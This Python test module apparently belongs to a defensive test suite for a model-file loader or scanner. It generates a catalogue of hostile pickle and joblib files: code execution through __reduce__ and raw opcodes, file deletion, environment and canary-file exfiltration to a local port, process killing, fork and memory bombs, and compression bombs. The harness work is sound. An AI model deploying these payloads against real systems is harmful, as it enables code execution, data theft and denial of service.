"""Pickles that run code, joblib files that read others', and streams that eat memory. They strike when they are opened."""

from __future__ import annotations

import gzip
import io
import lzma
import pickle
import struct
import zlib
from collections.abc import Callable
from typing import Any

import joblib
import numpy as np
from sklearn.linear_model import LogisticRegression

from tests.hostile.cases import Case, Trap


class Calls:
    """Unpickles as ``function(*arguments)``."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self._call = (function, arguments)

    def __reduce__(self) -> Any:
        return self._call


def _calls(
    text: Callable[[Trap], str], *, protocol: int = 4, ending: str = ".pkl"
) -> Callable[[Trap], tuple[str, bytes]]:
    return lambda trap: (f"model{ending}", pickle.dumps(Calls(exec, text(trap)), protocol=protocol))


def _shell(trap: Trap) -> str:
    return f"touch {trap.marker}"


def _execve(trap: Trap) -> str:
    return (
        "import ctypes, os\nc = ctypes.CDLL(None, use_errno=True)\n"
        f"argv = (ctypes.c_char_p * 4)(b'/bin/sh', b'-c', b'{_shell(trap)}', None)\n"
        "c.execve(b'/bin/sh', argv, None)\nraise OSError(ctypes.get_errno(), 'execve')"
    )


def _text_protocol(trap: Trap) -> tuple[str, bytes]:
    return "model.pkl", f"cposix\nsystem\n(S'{_shell(trap)}'\ntR.".encode()


def _chained(trap: Trap) -> tuple[str, bytes]:
    """No import of os anywhere: found through an attribute of a harmless module."""
    code = (
        b"\x80\x04cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'shutil'\ntRS'os'\ntR"
        b"p0\n0cbuiltins\ngetattr\n(g0\nS'system'\ntR(S'" + _shell(trap).encode() + b"'\ntR."
    )
    return "model.pkl", code


def _nested(trap: Trap) -> tuple[str, bytes]:
    inner = pickle.dumps(Calls(exec, f"open({str(trap.marker)!r}, 'w')"))
    return "model.pkl", pickle.dumps(Calls(pickle.loads, inner))


def _laughs(trap: Trap) -> tuple[str, bytes]:
    """Thirty lists, each twice in the next: a billion entries when printed, few bytes when stored."""
    value: list[Any] = ["lol"]
    for _ in range(30):
        value = [value, value]
    return "model.pkl", pickle.dumps(value)


def _deep(trap: Trap) -> tuple[str, bytes]:
    return "model.pkl", b"\x80\x04" + b"(" * 200_000 + b"l" * 200_000 + b"."


def _claims_length(trap: Trap) -> tuple[str, bytes]:
    return "model.pkl", b"\x80\x04\x8e" + struct.pack("<Q", 1 << 62) + b"x."


def _poisons(trap: Trap) -> tuple[str, bytes]:
    """A real model that replaces a function of numpy in its own process on the way."""
    x = np.random.default_rng(0).normal(size=(20, 4))
    model = LogisticRegression().fit(x, x[:, 0] > 0)
    return "model.pkl", pickle.dumps((Calls(exec, "import numpy; numpy.asarray = print"), model))


def _sleeper(trap: Trap) -> tuple[str, bytes]:
    text = "import time\nwhile True: time.sleep(60)"
    return "model.pkl", pickle.dumps(Calls(exec, text))


def _memmap(trap: Trap) -> tuple[str, bytes]:
    """A model whose weights are said to lie in another file."""
    return "model.joblib", pickle.dumps(Calls(np.memmap, str(trap.canary), "uint8", "r"))


def _loads_other(trap: Trap) -> tuple[str, bytes]:
    return "model.joblib", pickle.dumps(Calls(joblib.load, str(trap.canary)))


def _bomb(pack: Callable[[bytes], bytes], ending: str) -> Callable[[Trap], tuple[str, bytes]]:
    def make(trap: Trap) -> tuple[str, bytes]:
        # One string of 3 GB, more than a model may have: a few MB on the wire.
        head = b"\x80\x04\x8e" + struct.pack("<Q", 3 << 30)
        return f"model{ending}", pack(head)

    return make


def _zlib_bomb(head: bytes) -> bytes:
    packer, out = zlib.compressobj(9), io.BytesIO()
    out.write(packer.compress(head))
    block = bytes(8 << 20)
    for _ in range(96):  # 768 MB inflated: the claim goes on beyond it
        out.write(packer.compress(block))
    out.write(packer.flush())
    return out.getvalue()


CASES = (
    Case("shell", "runs a shell command", lambda t: ("model.pkl", pickle.dumps(Calls(__import__("os").system, _shell(t)))), ("load",)),
    Case("text-protocol", "the same in pickle's first protocol", _text_protocol, ("load",)),
    Case("popen", "starts a process", _calls(lambda t: f"import subprocess; subprocess.Popen(['touch', {str(t.marker)!r}])"), ("load",)),
    Case("chained-getattr", "finds os.system through other modules", _chained, ("load",)),
    Case("nested-pickle", "unpickles an inner pickle that writes", _nested, ("load",)),
    Case("writes", "writes a file", _calls(lambda t: f"open({str(t.marker)!r}, 'w').write('x')"), ("load",)),
    Case("ctypes", "calls the C library's system()", _calls(lambda t: f"import ctypes; ctypes.CDLL(None).system(b'touch {t.marker}')\nraise SystemExit"), ("load",)),
    Case("execve", "becomes a shell by a raw system call", _calls(_execve), ("load",)),
    Case("connects", "sends a file to a TCP port", _calls(lambda t: f"import socket\ns = socket.create_connection(('127.0.0.1', {t.port}))\ns.send(open({str(t.canary)!r}, 'rb').read())"), ("load",)),
    Case("unix-socket", "asks a local server", _calls(lambda t: f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({t.socket!r})"), ("load",)),
    Case("udp", "sends a datagram", _calls(lambda t: f"import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {t.port}))"), ("load",)),
    Case("runnerd", "orders a runner of its own from the supervisor", _calls(lambda t: f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({t.runnerd!r})"), ("load",)),
    Case("deletes", "deletes other people's files", _calls(lambda t: f"import shutil\nshutil.rmtree({str(t.folder)!r})"), ("load",)),
    Case("memory-map", "maps another file as its weights", _memmap, ("load",)),
    Case("loads-another", "loads another file", _loads_other, ("load",)),
    Case("says-a-secret", "raises an error with a file's content in it", _calls(lambda t: f"raise ValueError(open({str(t.canary)!r}).read())"), ("load",)),
    Case("says-null", "raises an error with a NUL and half a character in it", _calls(lambda t: "raise ValueError('a\\x00b\\ud800')"), ("load",)),
    Case("says-the-environment", "raises an error with the environment in it", _calls(lambda t: "import os\nraise ValueError(dict(os.environ))"), ("load",)),
    Case("reads-the-parent", "reads its parent's environment", _calls(lambda t: "import os\nraise ValueError(open(f'/proc/{os.getppid()}/environ').read())"), ("load",)),
    Case("kills", "kills every process it can", _calls(lambda t: "import os, signal\nfor pid in range(1, 40000):\n    if pid != os.getpid():\n        try: os.kill(pid, signal.SIGKILL)\n        except OSError: pass\nos.kill(os.getppid(), signal.SIGKILL)"), ("load",)),
    Case("fork-bomb", "forks without end", _calls(lambda t: "import os\nwhile True: os.fork()"), ("load",)),
    Case("thread-bomb", "starts threads without end", _calls(lambda t: "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(60,), daemon=True).start()"), ("load",)),
    Case("file-bomb", "opens files without end", _calls(lambda t: "held = []\nwhile True: held.append(open('/dev/null'))"), ("load",)),
    Case("segfault", "reads address 0", _calls(lambda t: "import ctypes; ctypes.string_at(0)"), ("load",)),
    Case("exits", "ends quietly", _calls(lambda t: "import os; os._exit(0)"), ("load",)),
    Case("sleeps", "never finishes opening", _sleeper, ("load",)),
    Case("eats-memory", "asks for more memory than it may have", _calls(lambda t: "held = []\nwhile True: held.append(bytearray(64 << 20))"), ("load",)),
    Case("billion-laughs", "is a list of lists of lists", _laughs, ("load",)),
    Case("deep", "nests 200,000 times", _deep, ("scan", "format", "load")),
    Case("claims-length", "says that a string has 4 EB", _claims_length, ("format", "load")),
    Case("poisons-numpy", "replaces a function of numpy", _poisons, ("load",)),
    Case("zlib-bomb", "inflates to 3 GB", _bomb(_zlib_bomb, ".joblib"), ("format", "load")),
    Case("gzip-bomb", "inflates to a string that never ends", _bomb(lambda head: gzip.compress(head + bytes(64 << 20)), ".joblib"), ("format", "load")),
    Case("xz-bomb", "inflates to a string that never ends", _bomb(lambda head: lzma.compress(head + bytes(64 << 20)), ".joblib"), ("format", "load")),
)  # fmt: skip
